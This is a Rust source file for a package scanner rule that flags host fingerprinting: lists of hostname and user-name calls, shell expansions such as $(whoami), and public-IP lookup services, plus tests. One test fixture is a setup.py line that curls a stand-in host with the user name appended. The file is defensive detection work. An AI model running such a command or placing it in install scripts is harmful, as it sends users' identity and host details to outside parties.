//! `SA-004` host fingerprint (capability). Finds code that collects who and where it runs:
//! host name, user name, network interfaces, platform details.
//!
//! Why: dependency-confusion probes and stealers send a fingerprint home. Example:
//! `os.hostname()`, `getpass.getuser()`. Known false positives: telemetry, logging, CLIs that
//! greet the user; a capability, counted beside a network sink.

use super::{Ctx, Hit, Kind, Rule};
use scioc_model::Behaviour;

pub(crate) const RULE: Rule =
    Rule { id: "SA-004", name: "host fingerprint", kind: Kind::Capability, behaviour: Behaviour::Probe, weight: 1 };

const CALLS: &[&str] = &[
    "os.hostname",
    "os.userInfo",
    "os.networkInterfaces",
    "os.homedir",
    "socket.gethostname",
    "platform.node",
    "platform.uname",
    "getpass.getuser",
    "os.getlogin",
    "os.uname",
    "whoami",
    "hostname",
    "uname",
    "socket.getfqdn",
    "uuid.getnode",
];

/// Host data a command line expands (`curl …?u=$(whoami)`).
const EXPANDED: &[&str] = &[
    "$(whoami)",
    "`whoami`",
    "$(hostname)",
    "`hostname`",
    "$(id)",
    "$(uname -a)",
    "$user",
    "${user}",
    "$hostname",
    "%username%",
    "%computername%",
    "$env:username",
    "$env:computername",
];

/// Services that answer the caller's public address.
const ADDRESS_SERVICES: &[&str] = &[
    "api.ipify.org",
    "api64.ipify.org",
    "ipinfo.io",
    "ip-api.com",
    "ifconfig.me",
    "icanhazip.com",
    "checkip.amazonaws.com",
];

pub(crate) fn check(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
    if let Some(c) = ctx.facts.calls_to(CALLS).next() {
        out.push(Hit::new(&RULE, c.line, format!("{}()", c.name)));
        return;
    }
    let lines = ctx.facts.calls.iter().filter_map(|c| c.first.as_deref().map(|f| (f, c.line)));
    if let Some((l, n)) = lines.clone().find(|(l, _)| {
        let l = l.to_ascii_lowercase();
        EXPANDED.iter().any(|e| l.contains(e))
    }) {
        out.push(Hit::new(
            &RULE,
            n,
            format!("host data in a command line: {}", l.chars().take(100).collect::<String>()),
        ));
        return;
    }
    if let Some((s, n)) = ctx.facts.strings_with(ADDRESS_SERVICES).next() {
        out.push(Hit::new(
            &RULE,
            *n,
            format!("asks for the public address: {}", s.chars().take(80).collect::<String>()),
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::super::fixture::*;

    #[test]
    fn fires_on_host_details() {
        assert!(fired("a.js", "const os = require('os'); os.hostname()", LIBRARY).contains(&"SA-004"));
        assert!(fired("a.py", "import getpass\ngetpass.getuser()\n", LIBRARY).contains(&"SA-004"));
        assert!(
            fired("setup.py", "import os\nos.system('curl -s https://x.example/?u=$(whoami)')\n", LIBRARY)
                .contains(&"SA-004")
        );
        assert!(
            fired("a.py", "import requests\nip = requests.get('https://api.ipify.org').text\n", LIBRARY)
                .contains(&"SA-004")
        );
    }

    #[test]
    fn near_misses() {
        assert!(!fired("a.js", "const os = require('os'); os.platform()", LIBRARY).contains(&"SA-004"));
    }
}
